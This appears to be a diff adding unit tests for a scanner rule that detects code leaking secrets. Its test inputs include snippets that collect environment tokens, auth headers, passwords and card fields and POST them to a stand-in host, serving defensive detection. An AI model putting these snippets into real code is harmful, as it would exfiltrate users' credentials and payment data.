@@ -1,0 +1,41 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { findingsOf } from '#test/support/scan-package.js';
+import { rule } from './data-leak.rule.js';
+
+/** Of `data-leak`, values that are picked by names of secrets. */
+const isTold = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more }).some(({ message, severity }) => message.startsWith('values are picked') && severity === 'high');
+const SEND = 'fetch("https://stats.example/c", { method: "POST", body: JSON.stringify(out) });';
+
+test('bad: values with names of secrets, of whatever they are picked from', () => {
+  for (const code of [
+    `const KEYS = /TOKEN|SECRET|PASS|KEY/i; exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (KEYS.test(k)) out[k] = env[k]; ${SEND} }`,
+    `exports.note = (config) => { const out = {}; for (const [k, v] of Object.entries(config.headers)) if (/^(authorization|cookie|x-api-key)$/i.test(k)) out[k] = String(v); ${SEND} }`,
+    `const fields = /card|cvc|cvv|expir/i; const out = {}; document.addEventListener("change", (e) => { if (e.isTrusted && fields.exec(e.target.name)) out[e.target.name] = e.target.value; }); setInterval(() => { ${SEND} }, 900);`,
+    `exports.done = (values) => { const out = Object.keys(values).filter((k) => /pass|pwd|mail/i.test(k)).map((k) => k + "=" + values[k]).join("&"); ${SEND} }`,
+    `exports.done = (values) => { const out = Object.fromEntries(Object.entries(values).filter(([k]) => k.match(/token|secret/i))); ${SEND} }`,
+    `exports.done = (list) => { const out = []; for (const each of list) /token|cookie/i.test(each.name) && out.push([each.name, each.value]); ${SEND} }`,
+  ]) assert.equal(isTold(code), true, code);
+});
+
+test('bad: picked here, sent by a script that it belongs to, or to an address that is put together', () => {
+  const pick = 'const { tell } = require("./tell"); exports.run = (env) => { const out = {}; for (const k in env) if (/token|passw(or)?d/i.test(k)) out[k] = env[k]; tell(out); };';
+  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch("https://stats.example/c", { body: JSON.stringify(x) });' }), true);
+  assert.equal(isTold(pick, { 'tell.js': 'const base = "https://stats.example"; exports.tell = (x, y) => fetch([base, y].join("/"), { body: JSON.stringify(x) });' }), true);
+  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch(process.argv[2], { body: JSON.stringify(x) });' }), false, 'no server is named');
+  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch("http://localhost:80/c", { body: JSON.stringify(x) });' }), false, 'this computer');
+  assert.equal(isTold(pick.replace('tell(out)', 'return out')), false, 'nothing is sent');
+});
+
+test('good: what covers secrets or leaves them out, asks for one, or picks something else', () => {
+  for (const code of [
+    `const KEYS = /token|secret|password/i; exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) out[k] = KEYS.test(k) ? "***" : env[k]; ${SEND} }`,
+    `exports.run = (env) => { const out = { ...env }; for (const k of Object.keys(env)) if (/token|secret/i.test(k)) out[k] = "[redacted]"; ${SEND} }`,
+    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (/token|secret/i.test(k)) out[k] = mask(env[k]); ${SEND} }`,
+    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (!/token|secret/i.test(k)) out[k] = env[k]; ${SEND} }`,
+    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) { if (/token|secret/i.test(k)) continue; out[k] = env[k]; } ${SEND} }`,
+    `exports.run = (env) => { const out = { ...env }; Object.keys(out).filter((k) => /token|secret/i.test(k)).forEach((k) => { out[k] = null; }); ${SEND} }`,
+    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (/^APP_|^SITE_/.test(k)) out[k] = env[k]; ${SEND} }`,
+    `exports.run = (text) => { const out = []; for (const word of text.split(" ")) if (/^(key|account)$/.test(word)) out[word] = text[word]; ${SEND} }`,
+  ]) assert.equal(isTold(code), false, code);
+});
